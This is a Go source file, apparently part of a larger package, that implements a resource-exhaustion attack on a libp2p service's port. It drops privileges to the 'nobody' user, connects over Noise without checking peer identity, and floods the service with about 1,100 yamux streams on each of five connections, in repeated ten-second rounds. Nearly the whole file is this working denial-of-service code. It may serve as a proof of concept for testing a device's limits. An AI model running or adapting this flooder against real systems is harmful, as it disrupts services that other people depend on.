package main

import (
	"context"
	"fmt"
	"io"
	"net"
	"sync"
	"syscall"
	"time"

	"github.com/libp2p/go-libp2p/core/crypto"
	"github.com/libp2p/go-libp2p/core/network"
	libp2pproto "github.com/libp2p/go-libp2p/core/protocol"
	"github.com/libp2p/go-libp2p/p2p/muxer/yamux"
	"github.com/libp2p/go-libp2p/p2p/net/upgrader"
	libp2pnoise "github.com/libp2p/go-libp2p/p2p/security/noise"
	mss "github.com/multiformats/go-multistream"
)

// nobody is the user that the attack on the apps' port runs as.
const nobody = 65534

// crowd keeps as many streams open at the apps' port as it gets, as a user of the
// machine who cannot read the token.
func crowd(ctx context.Context, target string) error {
	const conns, streams = 5, 1100
	if err := syscall.Setuid(nobody); err != nil {
		return err
	}
	var all sync.WaitGroup
	for range conns {
		all.Go(func() {
			for ctx.Err() == nil {
				c, err := enter(ctx, target)
				if err != nil {
					time.Sleep(100 * time.Millisecond)
					continue
				}
				go func() {
					for {
						if _, err := c.AcceptStream(); err != nil {
							return
						}
					}
				}()
				fill(ctx, c, streams)
				_ = c.Close()
			}
		})
	}
	all.Wait()
	return fmt.Errorf("no connection is left: %w", ctx.Err())
}

// fill has that many streams open with a byte said on each, for some seconds.
func fill(ctx context.Context, c network.MuxedConn, streams int) {
	var all sync.WaitGroup
	for range streams {
		all.Go(func() {
			for end := time.Now().Add(10 * time.Second); time.Now().Before(end) && !c.IsClosed(); time.Sleep(50 * time.Millisecond) {
				open, cancel := context.WithTimeout(ctx, 10*time.Second)
				s, err := c.OpenStream(open)
				cancel()
				if err != nil {
					continue
				}
				started()
				if _, err := s.Write([]byte{header[0]}); err == nil {
					_, _ = io.Copy(io.Discard, s) // until it is reset
				}
				_ = s.Reset()
			}
		})
	}
	all.Wait()
}

// enter makes a connection as libp2p's, with whomever it meets.
func enter(ctx context.Context, target string) (network.MuxedConn, error) {
	key, _, err := crypto.GenerateEd25519Key(nil)
	if err != nil {
		return nil, err
	}
	t, err := libp2pnoise.New(libp2pnoise.ID, key, []upgrader.StreamMuxer{{ID: yamux.ID, Muxer: yamux.DefaultTransport}})
	if err != nil {
		return nil, err
	}
	anyone, err := t.WithSessionOptions(libp2pnoise.DisablePeerIDCheck())
	if err != nil {
		return nil, err
	}
	raw, err := net.DialTimeout("tcp", target, 5*time.Second)
	if err != nil {
		return nil, err
	}
	if err := mss.SelectProtoOrFail(libp2pproto.ID(libp2pnoise.ID), raw); err != nil {
		return nil, err
	}
	c, err := anyone.SecureOutbound(ctx, raw, "")
	if err != nil {
		return nil, err
	}
	// The device names the multiplexer within Noise, or by words.
	if c.ConnState().StreamMultiplexer == "" {
		if err := mss.SelectProtoOrFail(libp2pproto.ID(yamux.ID), c); err != nil {
			return nil, err
		}
	}
	return yamux.DefaultTransport.NewConn(c, false, &network.NullScope{})
}
